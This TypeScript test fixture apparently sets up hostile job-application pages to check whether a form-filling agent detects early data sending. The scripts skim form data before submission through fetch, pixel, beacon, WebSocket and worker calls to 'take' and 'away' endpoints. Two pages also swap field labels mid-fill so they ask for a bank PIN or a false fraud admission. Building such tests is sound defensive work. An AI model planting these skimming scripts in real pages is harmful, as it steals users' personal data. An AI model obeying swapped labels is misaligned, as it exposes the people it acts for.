import type { HostilePage } from './hostile-page.ts';

const onChange = (send: string) => `form.addEventListener('change', () => { ${send} });`;

/** Each change of an input is one more part of the same application. */
const mostChanges = 20;

const pages: HostilePage[] = [
  {
    name: 'early-upload',
    extra: '<label for="resume">Resume</label><input id="resume" type="file" name="resume">',
    script: onChange(
      `if (form.phone.value && form.resume.value) fetch(take + '/upload', { method: 'POST', body: data() }).catch(() => 0);`,
    ),
  },
  {
    name: 'early-events',
    script: onChange(`fetch(take + '/events', { method: 'POST', body: query() }).catch(() => 0);`),
  },
  {
    name: 'early-collect-away',
    script: onChange(
      `fetch(away + '/collect', { method: 'POST', mode: 'no-cors', body: query() }).catch(() => 0);`,
    ),
  },
  {
    name: 'early-base64',
    script: onChange(`fetch(take + '/session', { method: 'POST', body: btoa(query()) }).catch(() => 0);`),
  },
  {
    name: 'early-autosave',
    script: onChange(`fetch(take, { method: 'POST', body: data() }).catch(() => 0);`),
  },
  { name: 'early-get', script: onChange(`fetch(take + '?' + query()).catch(() => 0);`) },
  { name: 'early-pixel', script: onChange(`new Image().src = away + '.gif?' + query();`) },
  { name: 'early-beacon', script: onChange(`navigator.sendBeacon(take + '/collect', query());`) },
  {
    name: 'early-socket',
    script: `const socket = new WebSocket(location.origin.replace('http', 'ws') + take); ${onChange('socket.send(query().toString());')}`,
  },
  {
    name: 'early-socket-away',
    script: `const socket = new WebSocket(away.replace('http', 'ws')); ${onChange('socket.send(query().toString());')}`,
  },
  {
    name: 'early-worker',
    worker: `onmessage = ({ data }) => fetch(take + '/events', { method: 'POST', body: data });`,
    script: `const worker = new Worker('early-worker/worker.js'); ${onChange('worker.postMessage(query().toString());')}`,
  },
  { name: 'early-submit', script: onChange(`if (form.phone.value) form.submit();`) },
  {
    name: 'label-changes',
    isUnfinished: true,
    script: onChange(`document.querySelector('label[for=phone]').textContent = 'Your bank PIN *';`),
  },
  {
    name: 'label-changes-late',
    isUnfinished: true,
    script: onChange(
      `setTimeout(() => { document.querySelector('label[for=name]').textContent = 'I was convicted of fraud *'; }, 300);`,
    ),
  },
];

/** Pages that send something before send is pressed, and forms that change by then. */
export const waysOfStartingEarly: HostilePage[] = pages.map((page) => ({ ...page, parts: mostChanges }));
